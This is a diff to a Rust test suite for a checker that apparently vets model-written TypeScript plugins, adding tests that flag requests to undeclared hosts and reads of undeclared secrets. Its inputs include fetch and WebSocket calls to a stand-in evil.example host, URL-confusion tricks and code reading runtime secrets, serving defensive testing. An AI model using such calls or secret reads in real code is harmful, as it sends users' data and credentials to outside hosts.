@@ -14,7 +14,7 @@ fn files(of: &[(&str, &str)]) -> FileSet {
 }
 
 fn policy() -> Policy {
-    let environment = ["DECLARED".to_owned()].into();
+    let environment = ["DECLARED".to_owned(), "WEATHER_API_TOKEN".to_owned()].into();
     Policy {
         environment,
         ..Policy::with_packages(["zod".to_owned()])
@@ -70,12 +70,69 @@ fn what_is_usual_is_not_refused() {
         "class A { static models = 1 }\nexport default A",
         "export const list = { models: ['a'] }",
         "/* a comment about eval and @ts things */ export const ok = 1",
-        "export class X { constructor() { this.x = 1 } x: number }",
+        "export class X { constructor() { this.x = 1 } x: number; y() { return this.constructor.name } }",
+        "export const f = (e: unknown) => (e as Error).constructor.name + g().constructor.name",
         "export type F = Function",
         "const o = { a: 1 }; o.a = 2; delete (o as { a?: number }).a; export { o }",
         "const core = await import('@elizaos/core'); export { core }",
     ] {
         assert_eq!(codes("src/x.ts", text), [""; 0], "{text}");
+    }
+}
+
+#[test]
+fn only_declared_hosts_and_settings_are_reached() {
+    let mut strict = policy();
+    strict.hosts = Some(["api.example.com".to_owned()].into());
+    let found = |path: &str, text: &str| -> Vec<String> {
+        let set = files(&[(path, text), ("__tests__/ok.test.ts", OK_TEST)]);
+        let found = inspect(&set, &strict).diagnostics;
+        found.into_iter().map(|one| one.code).collect()
+    };
+    for text in [
+        "await fetch('https://evil.example/x')",
+        "const f = (x: string) => fetch(`https://evil.example/${x}`)",
+        "const f = (x: string) => fetch(`HTTPS:\\/\\/api.example.com.evil.example?${x}`)",
+        "const a = 'https://api.example.com@evil.example', b = 'https://evil.example'",
+        "new WebSocket('wss://evil.example')",
+    ] {
+        assert_eq!(found("src/x.ts", text), ["undeclared-host"], "{text}");
+        assert_eq!(
+            codes("src/x.ts", text),
+            [""; 0],
+            "without a request any host may be named: {text}"
+        );
+    }
+    for text in [
+        "await fetch('https://api.example.com/x')",
+        "await fetch('https://API.example.com:8443/x')",
+        "const url = new URL('/x', 'http://localhost:3000')",
+        "const url = new URL('/x', 'http://127.0.0.1')",
+    ] {
+        assert_eq!(found("src/x.ts", text), [""; 0], "{text}");
+    }
+    assert_eq!(
+        found("__tests__/help.ts", "await fetch('https://other.example')"),
+        [""; 0]
+    );
+    for text in [
+        "const v = runtime.getSetting('SECRET_THING')",
+        "const v = runtime.getSetting?.(`SECRET_THING`)",
+        "const v = runtime.character.settings.SECRET_THING",
+        "const v = runtime.character?.settings?.secrets?.['SECRET_THING']",
+        "const v = runtime.character.secrets[name]",
+        "const all = runtime.character.settings",
+        "const { SECRET_THING } = runtime.character.secrets",
+    ] {
+        assert_eq!(found("src/x.ts", text), ["undeclared-setting"], "{text}");
+        assert_eq!(found("__tests__/help.ts", text), [""; 0], "{text}");
+    }
+    for text in [
+        "const v = runtime.getSetting('DECLARED')",
+        "const v = runtime.character.settings?.secrets?.DECLARED",
+        "const v = runtime.character.name",
+    ] {
+        assert_eq!(found("src/x.ts", text), [""; 0], "{text}");
     }
 }
 
@@ -94,6 +151,9 @@ fn only_files_that_a_model_may_write_pass() {
         "bunfig.toml",
         "src/x.mts",
         "src/x.tsx",
+        "src/node_modules/x.ts",
+        "src/a/Node_Modules/b/x.ts",
+        "__tests__/node_modules/x.test.ts",
     ] {
         assert_eq!(codes(path, "export {}"), ["file-refused"], "{path}");
     }
